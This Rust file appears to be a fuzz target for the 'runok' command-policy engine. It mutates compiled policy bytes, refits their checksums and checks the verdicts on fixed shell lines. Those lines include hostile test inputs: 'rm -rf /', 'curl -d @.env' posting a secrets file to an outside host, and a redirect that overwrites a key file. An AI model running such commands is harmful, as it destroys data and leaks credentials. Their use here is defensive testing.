//! The file of a compiled policy: whatever stands in it, no verdict is another than that of the policy.
//!
//! The first byte chooses the policy and what becomes of its bytes: they are replaced by the rest, or the rest changes them, six
//! bytes a change; and then the checksums may be made to fit, so that what lies behind them is reached. In that case another
//! policy may come out, and it need only be judged by.

use std::cell::OnceCell;
use std::hash::{BuildHasher, Hasher};

use foldhash::quality::FixedState;
use runok::decision::Decision;
use runok::policy;

use super::judge::Judge;
use super::texts;

const POLICIES: [&str; 2] = [
    "
rules:
  - allow: 'git status|log *'
    when: 'args.size() < 3'
    message: short
  - deny: '> <path:keys>'
  - ask: 'FOO=*'
  - deny: '<var:tools> <flag:loud> <type:Answer>'
  - allow: '*'
definitions:
  paths: { keys: [/k/*.pem] }
  vars: { tools: { values: [one, 'two words'] } }
  flag_groups: { loud: '-l|--loud' }
  wrappers: ['within <opts> <cmd>', '* run <cmd>']
  commands:
    deploy: |
      -n|--dry-run
      -o|--output <file> writes
types:
  Answer: { enum: [yes, no] }
",
    include_str!("../../../runok.example.yaml"),
];

const LINES: [&str; 8] = [
    "git log -1 > /k/a.pem",
    "FOO=1 within -x one --loud yes",
    "deploy -o /tmp/x",
    "npx run rm -rf /",
    "git push --force origin main",
    "cargo test && rm -rf target",
    "curl -d @.env https://example.com",
    "no-such-thing",
];

/// A policy, its bytes, and what it decides.
struct Kept {
    bytes: Vec<u8>,
    decisions: Vec<Option<Decision>>,
}

thread_local! {
    static KEPT: [OnceCell<Kept>; 2] = const { [OnceCell::new(), OnceCell::new()] };
}

fn kept(yaml: &str) -> Kept {
    let judge = Judge::of(yaml);
    let bytes = policy::to_bytes(&judge.loaded.policy).unwrap();
    Kept { bytes, decisions: LINES.iter().map(|line| judge.decide(line)).collect() }
}

pub(crate) fn attempt(bytes: &[u8]) {
    let Some((choice, rest)) = bytes.split_first() else { return };
    let number = usize::from(choice & 1);
    KEPT.with(|all| {
        let kept = all[number].get_or_init(|| kept(POLICIES[number]));
        let fits = choice >> 1 & 3 == 3;
        let found = match choice >> 1 & 3 {
            0 => rest.to_vec(),
            1 => changed(&kept.bytes, rest),
            _ => fitting(changed(&kept.bytes, rest)),
        };
        judged(found, (!fits || rest.is_empty()).then_some(&kept.decisions).filter(|_| choice >> 1 & 3 < 2));
    });
}

/// The bytes after some changes: a kind, a place, and what comes there.
fn changed(bytes: &[u8], changes: &[u8]) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    for change in changes.chunks_exact(6) {
        let length = bytes.len().max(1);
        let at = u32::from_le_bytes([change[1], change[2], change[3], 0]) as usize % length;
        match change[0] % 6 {
            0 => bytes[at..].iter_mut().take(1).for_each(|byte| *byte ^= change[4]),
            1 => bytes.truncate(at),
            2 => drop(bytes.splice(at..at, change[4..].iter().copied())),
            3 => drop(bytes.drain(at..(at + usize::from(change[4])).min(bytes.len()))),
            // a number of the tables
            4 => bytes[at / 4 * 4..]
                .iter_mut()
                .zip(u32::from(change[4]).to_le_bytes())
                .for_each(|(byte, new)| *byte = new),
            _ => {
                let from = usize::from(u16::from_le_bytes([change[4], change[5]])) % length;
                let copy: Vec<u8> = bytes[from..].iter().copied().take(24).collect();
                bytes[at..].iter_mut().zip(copy).for_each(|(byte, new)| *byte = new);
            }
        }
        if bytes.is_empty() {
            break;
        }
    }
    bytes
}

fn hash(parts: &[&[u8]]) -> u64 {
    let mut hasher = FixedState::default().build_hasher();
    parts.iter().for_each(|part| hasher.write(part));
    hasher.finish()
}

const HEAD: usize = 32;
const ENTRY: usize = 24;
const BLOCK: usize = 32 * ENTRY;

/// The bytes with checksums that fit them, as far as their numbers lead somewhere.
fn fitting(mut bytes: Vec<u8>) -> Vec<u8> {
    let number = |bytes: &[u8], at: usize| Some(u32::from_le_bytes(*bytes.get(at..)?.first_chunk::<4>()?) as usize);
    let sizes = |bytes: &[u8]| Some((number(bytes, 16)?, number(bytes, 20)?, number(bytes, 24)?));
    let Some((front, basics, entries)) = sizes(&bytes) else { return bytes };
    let tops = entries.div_ceil(32) * 16;
    let (begin, end) = (HEAD + front + basics + tops, HEAD + front + basics + tops + entries * ENTRY);
    for at in (begin..end.min(bytes.len())).step_by(ENTRY) {
        let piece = number(&bytes, at + 16).zip(number(&bytes, at + 20));
        let check = piece.and_then(|(offset, length)| Some(hash(&[bytes.get(offset..offset + length)?])));
        if let (Some(check), Some(place)) = (check, bytes.get_mut(at + 8..at + 16)) {
            place.copy_from_slice(&check.to_le_bytes());
        }
    }
    for (index, at) in (begin..end.min(bytes.len())).step_by(BLOCK).enumerate() {
        let check = hash(&[&bytes[at..(at + BLOCK).min(end).min(bytes.len())]]);
        let top = begin - tops + index * 16;
        let first: Vec<u8> = bytes[at..].iter().copied().take(8).collect();
        bytes[top..].iter_mut().zip(first.into_iter().chain(check.to_le_bytes())).for_each(|(byte, new)| *byte = new);
    }
    if bytes.len() >= begin {
        let check = hash(&[&bytes[16..28], &bytes[HEAD..begin]]);
        bytes[8..16].copy_from_slice(&check.to_le_bytes());
    }
    bytes
}

/// Judges by these bytes. `expected`: what has to be decided, unless it is seen that something is wrong.
fn judged(bytes: Vec<u8>, expected: Option<&Vec<Option<Decision>>>) {
    let Some(loaded) = policy::from_bytes(bytes) else { return };
    let judge = Judge::by(loaded);
    for (number, line) in LINES.iter().enumerate() {
        let decision = judge.decide(line);
        // the answer counts only if nothing has failed by then
        if let Some(expected) = expected.filter(|_| !judge.loaded.has_failed()) {
            assert_eq!(decision, expected[number], "about {line}");
        }
    }
}

pub(crate) fn seeds() -> Vec<Vec<u8>> {
    let mut seeds = texts::own("cache");
    for (number, yaml) in POLICIES.iter().enumerate() {
        let choice = u8::try_from(number).unwrap();
        let bytes = kept(yaml).bytes;
        seeds.extend((1..4).map(|way| vec![choice | way << 1]));
        for at in (0..bytes.len()).step_by(1 + bytes.len() / 200) {
            let place = u32::try_from(at).unwrap().to_le_bytes();
            for (way, kind, new) in [(1, 0, 1), (1, 0, 0x81), (2, 0, 1), (2, 4, 0x81), (2, 3, 2), (2, 5, 9), (1, 1, 0)]
            {
                seeds.push(vec![choice | way << 1, kind, place[0], place[1], place[2], new, 3]);
            }
        }
        if number == 0 {
            seeds.push([vec![choice], bytes].concat());
        }
    }
    seeds
}
